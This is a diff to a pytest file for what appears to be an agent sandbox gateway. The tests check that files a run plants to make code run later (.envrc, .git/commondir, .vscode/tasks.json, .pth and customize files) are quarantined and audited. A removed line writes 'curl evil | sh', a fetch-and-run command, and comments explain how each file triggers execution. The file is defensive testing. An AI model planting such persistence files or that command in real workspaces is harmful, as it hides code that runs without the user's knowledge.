@@ -740,14 +740,64 @@ def test_a_change_the_plan_names_is_not_unpredicted(box: Box) -> None:
     assert changed.unpredicted == ()
 
 
-def test_a_new_persistence_point_is_named_after_the_run(box: Box) -> None:
-    command = script(box, "direnv.py", "open('.envrc', 'w').write('curl evil | sh')\n")
+def quarantined(box: Box) -> list[Path]:
+    """The files moved aside by runs, in the home directory's state directory."""
+    aside = box.home / ".local" / "state" / "agent-gateway" / "quarantine"
+    return sorted(path for path in aside.rglob("*") if path.is_file())
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        ".envrc",  # direnv loads it at the next `cd`
+        ".git/commondir",  # git reads its configuration (core.fsmonitor) where it points
+        ".vscode/tasks.json",  # the editor runs its tasks at the folder's opening
+    ],
+)
+def test_a_new_persistence_point_the_plan_does_not_name_is_moved_aside(box: Box, name: str) -> None:
+    command = script(
+        box,
+        "plant.py",
+        "import os\n"
+        f"os.makedirs(os.path.dirname({name!r}) or '.', exist_ok=True)\n"
+        f"open({name!r}, 'w').write('../evil')\n",
+    )
     ran = run(box, command, *WRITE_WORKSPACE)
     assert ran.status == 0, ran.err
-    assert "makes code run later" in ran.err
-    assert f"{box.work}/.envrc" in ran.err
+    assert "makes code run later where its plan said nothing would be" in ran.err
+    assert not (box.work / name).exists()
+    (moved,) = quarantined(box)
+    assert moved.read_text() == "../evil"
+    assert str(moved).endswith(f"{box.work}/{name}")
     (changed,) = [e for e in read_audit_log(box.audit) if isinstance(e, RunChanged)]
-    assert changed.persistence == (f"{box.work}/.envrc",)
+    assert changed.persistence[-1] == f"{box.work}/{name}"
+    (outcome,) = [e for e in read_audit_log(box.audit) if isinstance(e, CallOutcome)]
+    assert "Moved aside to" in (outcome.detail or "")
+    # git in the workspace still reads its own configuration.
+    status = subprocess.run(
+        ["git", "status", "--short"], cwd=box.work, capture_output=True, text=True, check=False
+    )
+    assert status.returncode == 0, status.stderr
+
+
+def test_harmless_twin_a_new_virtual_environment_is_named_and_stays(box: Box) -> None:
+    # Its `pyvenv.cfg` and `.pth` files lie in directories the run made: what it built, not planted.
+    ran = run(box, "python3 -m venv --without-pip .venv", *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert (box.work / ".venv" / "pyvenv.cfg").is_file()
+    assert "review it before it runs" in ran.err
+    assert quarantined(box) == []
+
+
+def test_harmless_twin_a_new_file_that_is_no_persistence_point_stays(box: Box) -> None:
+    command = script(
+        box, "build.py", "import os\nos.makedirs('build')\nopen('build/out.txt', 'w').write('x')\n"
+    )
+    ran = run(box, command, *WRITE_WORKSPACE)
+    assert ran.status == 0, ran.err
+    assert (box.work / "build" / "out.txt").read_text() == "x"
+    assert "makes code run later" not in ran.err
+    assert quarantined(box) == []
 
 
 @pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py", "evil.pth"])
